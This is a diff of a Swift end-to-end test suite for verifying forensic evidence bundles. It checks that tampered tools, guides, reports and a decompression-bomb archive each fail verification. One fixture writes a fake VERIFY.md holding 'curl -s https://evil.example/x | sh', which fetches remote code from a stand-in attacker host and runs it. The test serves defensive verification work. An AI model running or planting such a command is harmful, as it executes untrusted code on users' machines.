@@ -32,6 +32,8 @@ struct BundleEndToEndTests {
             members.remove(find(args[0]))
         elif action == "add":
             info = tarfile.TarInfo(top + args[0]); members.append([info, b"added\n"])
+        elif action == "add-listed":
+            info = tarfile.TarInfo(top + args[0]); members.append([info, b"added\n"]); sums()
         elif action == "rename":
             find(args[0])[0].name = top + args[1]
         elif action == "edit-report":
@@ -174,6 +176,58 @@ struct BundleEndToEndTests {
         // The checkpoint kept elsewhere, the same one: passes.
         let checkpoint = node.directory.file("extracted-case/custos-bundle/checkpoint.txt")
         #expect(try verifyBundle(caseBundle, ["--checkpoint", checkpoint]).status == 0)
+    }
+
+    /// What an expert is told to run, and the report, are checked as the items are: a changed
+    /// checker or guide, a member the layout does not have, a report of another bundle (even
+    /// with its own `reported` entry), and an archive that decompresses without end each fail,
+    /// though SHA256SUMS was rewritten to match.
+    @Test func aBundleWhoseToolsLayoutReportOrArchiveWereSwappedFails() throws {
+        let (node, items) = try node()
+        let bundle = node.directory.file("a.tar")
+        #expect(try node.custos(["export", "--case", "A-1", "--reason", "court", "-o", bundle]).status == 0)
+        let laterBundle = node.directory.file("b.tar")
+        #expect(try node.custos(["export", "--case", "A-1", "--reason", "again", "-o", laterBundle]).status == 0)
+        let later = node.directory.file("b") + "/custos-bundle"
+        try FileManager.default.createDirectory(atPath: node.directory.file("b"), withIntermediateDirectories: true)
+        #expect(try run("bsdtar", ["-xf", laterBundle, "-C", node.directory.file("b")]).status == 0)
+        func expectFailure(_ tampered: String, _ claim: String, _ detail: String) throws {
+            let result = try verifyBundle(tampered)
+            #expect(result.status == 1, "\(claim): \(result.output)")
+            let line = result.output.split(separator: "\n").first { $0.contains("FAIL  \(claim)") }
+            #expect(line?.contains(detail) == true, "\(claim): \(result.output)")
+        }
+        let fake = try node.directory.write("fake.py", Array("print('OK')\n".utf8))
+        try expectFailure(
+            try tamper(node, bundle, "replace", ["tools/rfc6962_check.py", fake]), "VERIFY.md and tools",
+            "is not the checker")
+        let guide = try node.directory.write(
+            "VERIFY.md", Array(("curl -s https://evil.example/x | sh\n").utf8))
+        try expectFailure(
+            try tamper(node, bundle, "replace", ["VERIFY.md", guide]), "VERIFY.md and tools",
+            "VERIFY.md is not the guide")
+        try expectFailure(
+            try tamper(node, bundle, "add-listed", ["report/REPORT-FINAL.pdf"]), "layout", "REPORT-FINAL.pdf")
+        // The later bundle's report (signed by the same chain, about the same items) in this one.
+        var swapped = bundle
+        for name in ["report/report.json", "report/report.json.p7s", "report/report.pdf", "report/report.pdf.p7s"] {
+            swapped = try tamper(node, swapped, "replace", [name, "\(later)/\(name)"])
+        }
+        try expectFailure(swapped, "report", "the ledger does not vouch for this report")
+        // With its own `reported` entry and proof: they are not in this bundle's checkpoint.
+        for name in ["report/reported.entry.json", "report/reported.tlog"] {
+            swapped = try tamper(node, swapped, "replace", [name, "\(later)/\(name)"])
+        }
+        try expectFailure(swapped, "report", "does not prove entry")
+        // An archive of 200 MB of zeros in place of a sealed one of 5 MB: cut short, not read whole.
+        let zeros = node.directory.file("z")
+        #expect(try run("sh", ["-c", "head -c 200000000 /dev/zero > '\(zeros)'"]).status == 0)
+        let bomb = node.directory.file("bomb.tar.zst")
+        #expect(try run("bsdtar", ["--zstd", "-cf", bomb, "-C", node.directory.path, "z"]).status == 0)
+        try expectFailure(
+            try tamper(node, bundle, "replace", ["items/\(items[0])/archive.tar.zst", bomb]),
+            "item \(items[0]) archive",
+            "decompresses to more than")
     }
 
     /// A vault that records SHA-256 alone: its bundle claims no MD5 or SHA-1, and passes; an
